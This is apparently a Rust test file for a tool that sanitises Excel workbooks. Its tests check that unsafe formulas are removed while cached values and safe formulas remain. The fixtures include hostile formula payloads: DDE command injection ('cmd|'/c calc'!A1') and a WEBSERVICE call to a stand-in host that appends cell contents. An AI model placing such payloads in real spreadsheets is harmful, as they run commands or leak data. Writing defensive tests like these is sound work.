//! Formulas of Excel: they compute from the workbook itself, or leave the value that they had.

use form::Reason;

use crate::kit::{rebuilt, sheet};
use crate::package_kit::Package;

#[test]
fn a_refused_formula_leaves_its_value_and_takes_those_that_share_it() {
    let (done, cells) = sheet(
        r#"<sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:B1" si="0">WEBSERVICE("http://x")</f><v>7</v></c><c r="B1"><f t="shared" si="0"/><v>8</v></c><c r="C1"><f>A1+B1</f><v>15</v></c></row></sheetData>"#,
    );
    assert!(!cells.contains("WEBSERVICE") && !cells.contains("shared"), "{cells}");
    assert!(cells.contains(">7<") && cells.contains(">8<") && cells.contains("A1+B1"), "{cells}");
    assert_eq!(done.place(Reason::UnsafeFormula).as_deref(), Some("表!A1"));
}

#[test]
fn a_rule_whose_formula_is_refused_goes_whole() {
    let (done, cells) = sheet(
        r#"<sheetData/><dataValidations count="2"><dataValidation type="list" sqref="A1"><formula1>cmd|'/c calc'!A1</formula1></dataValidation><dataValidation type="list" sqref="B1"><formula1>"a,b"</formula1></dataValidation></dataValidations>"#,
    );
    assert!(!cells.contains("calc") && !cells.contains(r#"sqref="A1""#), "{cells}");
    assert!(cells.contains(r#"sqref="B1""#), "{cells}");
    assert!(done.has(Reason::UnsafeFormula));
}

/// A colour scale computes its bounds without a click.
#[test]
fn a_condition_has_no_bound_that_reaches_outside() {
    let scale = |value: &str| {
        let (done, parts) = rebuilt(
            &Package::workbook(&format!(
                r#"<sheetData/><conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" val="{value}"/><cfvo type="max"/><color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>"#
            )),
            "a.xlsx",
        );
        (done, parts.text("worksheets/"))
    };
    let (done, text) = scale("$B$1+1");
    assert!(text.contains("$B$1+1") && !done.has(Reason::UnsafeFormula), "{text}");
    for value in ["cmd|'/c calc'!A0", "WEBSERVICE(&quot;http://e.example/&quot;&amp;A1)", "[1]S!A1"] {
        let (done, text) = scale(value);
        assert!(!text.contains("cfvo") && done.has(Reason::UnsafeFormula), "{value}: {text}");
    }
}

#[test]
fn a_name_of_nothing_is_left_out() {
    let names = r#"<definedName name="_xlnm.Print_Area" localSheetId="0"/>"#;
    for kept in ["", r#"<definedName name="合計">'表'!$A$1</definedName>"#] {
        let package = Package::workbook("<sheetData/>");
        let book = package.part_text("xl/workbook.xml");
        let book = book.replace("</sheets>", &format!("</sheets><definedNames>{names}{kept}</definedNames>"));
        let (done, parts) = rebuilt(&package.part("xl/workbook.xml", &book), "a.xlsx");
        let text = parts.text("workbook.xml");
        assert!(!text.contains("Print_Area"), "{text}");
        assert_eq!(text.contains("<definedName "), !kept.is_empty(), "{text}");
        assert!(done.has(Reason::StructureRepaired) && !done.has(Reason::UnknownContent));
    }
}
